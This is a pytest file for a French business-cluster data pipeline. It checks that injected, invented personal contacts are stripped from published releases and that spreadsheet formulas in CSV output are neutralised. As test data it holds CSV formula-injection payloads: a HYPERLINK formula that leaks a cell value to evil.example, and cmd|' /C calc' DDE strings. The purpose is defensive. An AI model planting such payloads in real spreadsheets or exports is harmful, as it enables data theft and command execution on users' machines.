"""Issue 11, "Done when" point 2, and observations 1 and 2 end to end: the bundled sample
replayed with personal contacts injected beside officers' roles and names, inside company
names and in a decree's position text, and with spreadsheet formulas in a pôle's description
and address and in a company, publishes a release in which no injected e-mail or phone
appears in any file (issues.json included), every one of those people is still in
``advisors``, and the CSV cells a spreadsheet would run start with a single quote.
The people are the sample's invented ones; the contacts are invented too."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from urllib.parse import quote, urlencode

import pandas as pd
import pyarrow.parquet as pq
import pytest

from common.paths import REPO_ROOT, SNAPSHOTS_DIR
from common.personal_data import find

HDF = "https://www.cnccef.org/les-cce-en-france/hauts-de-france/"
ALBANIE = "https://www.cnccef.org/les-cce-dans-le-monde/albanie/"
DECREE = "https://www.legifrance.gouv.fr/jorf/id/JORFTEXT000048601234"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"

# (snapshot file, text in the page, replacement): every contact below must vanish.
INJECTIONS = [
    (
        "cce_committees/pages/les-cce-en-france/hauts-de-france.html",
        "<td>Présidente</td>",
        "<td>Présidente (v.hamel@orange.fr, 07 81 23 45 67)</td>",
    ),
    (
        "cce_committees/pages/les-cce-en-france/hauts-de-france.html",
        "<td>Témoinia Industrie SARL</td>",
        "<td>Témoinia Industrie SARL, marc.girard [at] gmail.com, mobile 06/12/34/56/78</td>",
    ),
    (
        "cce_committees/pages/les-cce-en-france/hauts-de-france.html",
        "<td>Prototypium Énergie SA</td>",
        "<td>@SUM(1+1)*cmd|' /C calc'!A0</td>",
    ),
    (
        "cce_committees/pages/les-cce-dans-le-monde/albanie.html",
        "M. Stéphane GIRARD, <em>",
        "M. Stéphane GIRARD (s.girard@exemplis.fr), <em>",
    ),
    (
        "cce_committees/pages/les-cce-dans-le-monde/albanie.html",
        "Mme Caroline FOURNIER</li>",
        "Mme Caroline FOURNIER – tél. 0033 6 11 22 33 44</li>",
    ),
    (
        "cce_appointments/pages/JORFTEXT000048601234.html",
        "M. Arnoult (Bastien, Claude).",
        "M. Arnoult (Bastien, Claude), directeur commercial (06 98 76 54 32), Exempla SA.",
    ),
    (
        "cce_appointments/pages/JORFTEXT000048601234.html",
        "M. Le Goff (Yann, Marie, Joseph).",
        "M. Le Goff (Yann, Marie, Joseph), responsable export, yann.legoff arobase exempla point fr, +33 7 81 00 11 22.",
    ),
    (
        "poles/pages/poles/aerospace-valley.html",
        "<p>AV fédère",
        "<p>=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;Cliquez&quot;) AV fédère",
    ),
    ("poles/pages/poles/aerospace-valley.html", "<dd>12 rue de la République<br>", "<dd>+cmd|' /C calc'!A0<br>"),
    (
        "poles/pages/poles/aerospace-valley.html",
        "développement des PME de la région Occitanie.",
        "développement des PME de la région Occitanie. Contact presse : Mme Julie Exemple, julie.exemple@orange.fr.",
    ),
]
# Every spelling of the injected contacts a file could hold, and their digits alone.
LEAKS = [
    "v.hamel",
    "orange.fr",
    "81 23 45 67",
    "marc.girard",
    "gmail",
    "12/34/56",
    "s.girard",
    "exemplis.fr",
    "11 22 33 44",
    "98 76 54 32",
    "yann.legoff",
    "arobase",
    "81 00 11 22",
    "julie.exemple",
]
DIGITS = ["781234567", "612345678", "611223344", "698765432", "781001122"]


def _run(data: Path, archives: Path) -> subprocess.CompletedProcess:
    env = dict(
        os.environ,
        POLES_CCE_DATA_DIR=str(data),
        DAGSTER_HOME=str(data / "dagster_home"),
        POLES_CCE_ARCHIVES_DIR=str(archives),
    )
    env.pop("POLES_CCE_MODE", None)
    (data / "dagster_home").mkdir(parents=True, exist_ok=True)
    (data / "dagster_home" / "dagster.yaml").write_text("telemetry:\n  enabled: false\n")
    return subprocess.run(
        [sys.executable, "-m", "pipelines.run"], cwd=REPO_ROOT, env=env, capture_output=True, text=True, timeout=900
    )


@pytest.fixture(scope="module")
def release(tmp_path_factory) -> Path:
    tmp = tmp_path_factory.mktemp("pii")
    archives = tmp / "archives"
    for source in ("poles", "cce_committees", "cce_appointments", "company_register"):
        shutil.copytree(SNAPSHOTS_DIR / source, archives / source)
    # The company register is asked about every company: the two new names find nothing.
    manifest_path = archives / "company_register" / "manifest.json"
    manifest = json.loads(manifest_path.read_text(encoding="utf-8"))
    for company in ("Exempla SA", SUM):
        url = "https://recherche-entreprises.api.gouv.fr/search?" + urlencode(
            {"q": company, "page": 1, "per_page": 10}, quote_via=lambda v, *a: quote(v, safe="")
        )
        manifest["responses"].append(
            {
                "url": url,
                "status": 200,
                "headers": {"Content-Type": "application/json"},
                "file": "pages/search/company-societe-imaginaire-zero-p1.json",
            }
        )
    manifest_path.write_text(json.dumps(manifest, ensure_ascii=False, indent=1), encoding="utf-8")
    for file, old, new in INJECTIONS:
        page = archives / file
        text = page.read_text(encoding="utf-8")
        assert text.count(old) == 1, (file, old)
        page.write_text(text.replace(old, new), encoding="utf-8")
    result = _run(tmp / "data", archives)
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    return (tmp / "data" / "releases" / "latest").resolve()


def _file_text(path: Path) -> str:
    if path.suffix == ".parquet":
        return json.dumps(pq.read_table(path).to_pylist(), ensure_ascii=False, default=str)
    if path.suffix == ".xlsx":  # the workbook: every cell of every sheet
        from openpyxl import load_workbook

        book = load_workbook(path, read_only=True)
        return json.dumps([row for sheet in book for row in sheet.iter_rows(values_only=True)], default=str)
    return path.read_text(encoding="utf-8")


@pytest.mark.slow
def test_no_injected_contact_in_any_file(release):
    clusters = pd.read_parquet(release / "clusters.parquet")
    organisation = {v for c in ("contact_email", "contact_phone") for v in clusters[c].dropna()}
    files = sorted(p for p in release.rglob("*") if p.is_file())
    assert len(files) >= 20
    for path in files:
        text = _file_text(path)
        for leak in LEAKS:
            assert leak not in text, (path.name, leak)
        digits = re.sub(r"\D", "", text)
        for number in DIGITS:
            assert number not in digits, (path.name, number)
        # The detector finds nothing but the pôles' own published contacts.
        found = {text[s:e] for s, e, _ in find(text)}
        assert found <= organisation, (path.name, sorted(found - organisation)[:5])


@pytest.mark.slow
def test_every_person_is_still_in_advisors(release):
    advisors = pd.read_parquet(release / "advisors.parquet")

    def one(family: str, committee: str, honorific: str | None = None) -> dict:
        # as printed by the source (the release normalises names printed in capitals)
        rows = advisors[(advisors["family_name_as_printed"] == family) & (advisors["committee_id"] == committee)]
        if honorific:
            rows = rows[rows["honorific"] == honorific]
        assert len(rows) == 1, (family, committee)
        return rows.iloc[0].to_dict()

    leclerc = one("LECLERC", "fr-hauts-de-france")
    assert list(leclerc["roles"]) == ["Présidente"] and leclerc["company"] == SUM
    royer = one("ROYER", "fr-hauts-de-france")
    assert royer["company"] == "Témoinia Industrie SARL"
    girard = one("GIRARD", "section-al")  # Albanie: the officer the old code dropped
    assert list(girard["given_names"]) == ["Stéphane"] and girard["display_name"] == "Stéphane Girard"
    assert list(girard["roles"]) == ["Président"] and girard["company"] == "Exemplis Logistique SA"
    assert one("FOURNIER", "section-al")["display_name"] == "Caroline Fournier"
    arnoult = one("Arnoult", "fr-auvergne-rhone-alpes")
    assert (arnoult["position"], arnoult["company"]) == ("directeur commercial", "Exempla SA")
    le_goff = one("Le Goff", "fr-bretagne", "M.")
    assert le_goff["display_name"] == "Yann Marie Joseph Le Goff" and le_goff["position"] == "responsable export"


@pytest.mark.slow
def test_issue_log_names_url_and_field_of_every_removal(release):
    issues = json.loads((release / "issues.json").read_text(encoding="utf-8"))
    records = issues if isinstance(issues, list) else issues.get("issues", issues)
    removed = {(r["url"], r["field"]) for r in records if r.get("code") == "personal_contact_removed"}
    assert {
        (HDF, "officers.role"),
        (HDF, "officers.company"),
        (ALBANIE, "officers.name"),
        (DECREE, "appointee"),
    } <= removed
    assert any(field == "description" and "aerospace-valley" in url for url, field in removed)


@pytest.mark.slow
def test_every_table_passed_the_personal_data_check(release):
    checks = json.loads((release / "checks.json").read_text(encoding="utf-8"))
    flat = json.dumps(checks)
    for table in (
        "clusters",
        "cce_committees",
        "advisors",
        "cluster_committee_coverage",
        "cluster_advisor_candidates",
        "region_summary",
    ):
        assert re.search(
            rf'"table": "{table}"[^{{}}]*"check": "no_personal_contact"|"check": "no_personal_contact"[^{{}}]*"table": "{table}"',
            flat,
        ), table


@pytest.mark.slow
def test_formulas_are_neutralised_in_csv_and_kept_in_parquet(release):
    import csv

    with (release / "clusters.csv").open(encoding="utf-8-sig", newline="") as fh:
        clusters = {r["cluster_id"]: r for r in csv.DictReader(fh)}
    av = next(r for r in clusters.values() if r["name"] == "Aerospace Valley")
    assert av["description"].startswith("'" + HYPERLINK)
    assert av["address"] == "'" + CMD
    assert av["contact_phone"].startswith("'+33")  # E.164 is text: neutralised like any '+' cell
    parquet = pd.read_parquet(release / "clusters.parquet").set_index("name")
    assert parquet.loc["Aerospace Valley", "description"].startswith(HYPERLINK)
    assert parquet.loc["Aerospace Valley", "address"] == CMD
    with (release / "advisors.csv").open(encoding="utf-8-sig", newline="") as fh:
        companies = {r["company"] for r in csv.DictReader(fh)}
    assert "'" + SUM in companies and SUM not in companies
    for name in ("clusters", "cce_committees", "advisors"):
        with (release / f"{name}.csv").open(encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row), (name, row)
